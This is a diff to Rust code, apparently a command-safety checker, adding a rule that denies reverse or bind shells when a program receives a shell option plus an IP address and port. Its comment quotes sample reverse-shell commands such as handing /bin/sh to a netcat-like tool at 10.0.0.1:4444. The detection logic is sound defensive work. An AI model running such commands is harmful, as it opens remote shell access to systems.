@@ -1054,6 +1054,35 @@ fn secret_var(t: &str) -> bool {
 }
 
 fn context_rules(c: &SimpleCommand, name: &str, facts: NameFacts, j: &mut Judged) {
+    // `rcat connect -s bash 10.0.0.1 4444`, `tool --exec /bin/sh 10.0.0.1:4444`: a program
+    // (netcat-like, whatever its name) handed a shell to run and an address and port.
+    if !facts.shell {
+        let args: Vec<&str> = c.args().collect();
+        let shell_opt = args.windows(2).any(|w| {
+            matches!(
+                w[0],
+                "-e" | "-s" | "-c" | "--exec" | "--shell" | "--sh-exec" | "-x"
+            ) && is_shell(w[1].rsplit('/').next().unwrap_or(w[1]))
+        });
+        let ipv4 = |a: &str| {
+            let host = a.split(':').next().unwrap_or(a);
+            let parts: Vec<&str> = host.split('.').collect();
+            parts.len() == 4
+                && parts
+                    .iter()
+                    .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
+        };
+        let port = |a: &str| !a.is_empty() && a.len() <= 5 && a.bytes().all(|b| b.is_ascii_digit());
+        let address = args.iter().any(|a| ipv4(a) && a.contains(':'))
+            || (args.iter().any(|a| ipv4(a)) && args.iter().any(|a| port(a)));
+        if shell_opt && address {
+            j.deny(
+                "net.reverse-shell",
+                C_REVERSE,
+                "a program is handed a shell to run and a network address (reverse or bind shell)",
+            );
+        }
+    }
     // `kubectl run x --overrides='{"spec":{"hostPID":true,...,"privileged":true}}'`: a pod
     // with the host's processes or full privileges (a way onto the node).
     if matches!(name, "kubectl" | "oc")
